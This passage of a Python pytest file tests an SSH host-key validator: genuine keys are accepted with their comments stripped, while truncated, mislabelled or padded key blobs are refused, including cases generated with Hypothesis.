    blob = edit(base64.b64decode(encoded))
    return f"{algorithm} {base64.b64encode(blob).decode()}"


class TestHostKeys:
    """Host keys are checked down to their blobs: a key no server could present is refused."""

    @pytest.mark.parametrize("algorithm", _HOST_KEY_ALGORITHMS)
    def test_real_keys_are_accepted_without_their_comment(self, algorithm: str) -> None:
        """Keys as ssh-keygen writes them pass, and only ``<type> <blob>`` is kept."""
        line = _REAL_HOST_KEYS[algorithm]
        assert types.check_host_keys([f"{line} root@host"]) == (" ".join(line.split()[:2]),)

    @pytest.mark.parametrize(
        "bad",
        [
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5",  # the type, no key
            "ssh-ed25519 AAAAB3NzaC1yc2EAAAADAQABAAAAgQ==",  # an RSA blob under another label
            "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQ==",  # truncated modulus
            _REAL_HOST_KEYS["ssh-ed25519"][:-1],  # last base64 character gone
            _REAL_HOST_KEYS["ecdsa-sha2-nistp256"].replace("ecdsa-sha2-nistp256", "ssh-ed25519"),
            _REAL_HOST_KEYS["ecdsa-sha2-nistp384"].replace("nistp384", "nistp256", 1),
        ],
        ids=[  # named: the generated keys differ in each process that collects them
            "no-key",
            "rsa-blob-as-ed25519",
            "truncated-rsa",
            "ed25519-cut",
            "ecdsa-as-ed25519",
            "p384-as-p256",
        ],
    )
    def test_malformed_blobs_are_refused(self, bad: str) -> None:
        """Well-formed base64 holding no key of the type it names is a 422's reason."""
        with pytest.raises(RuleError, match="not a valid public key"):
            types.check_host_keys([bad])

    @given(algorithm=st.sampled_from(_HOST_KEY_ALGORITHMS), keep=st.floats(0.1, 0.999))
    def test_any_truncated_blob_is_refused(self, algorithm: str, keep: float) -> None:
        """A blob cut anywhere (long enough to pass the line's pattern) is refused."""
        line = _REAL_HOST_KEYS[algorithm]
        size = len(base64.b64decode(line.split()[1]))
        bad = _reencode(line, lambda blob: blob[: max(12, min(size - 1, int(size * keep)))])
        with pytest.raises(RuleError):
            types.check_host_keys([bad])

    @given(algorithm=st.sampled_from(_HOST_KEY_ALGORITHMS), extra=st.binary(min_size=1))
    def test_trailing_bytes_are_refused(self, algorithm: str, extra: bytes) -> None:
        """Anything after the key's last field is refused."""
        bad = _reencode(_REAL_HOST_KEYS[algorithm], lambda blob: blob + extra)
        with pytest.raises(RuleError):
            types.check_host_keys([bad])
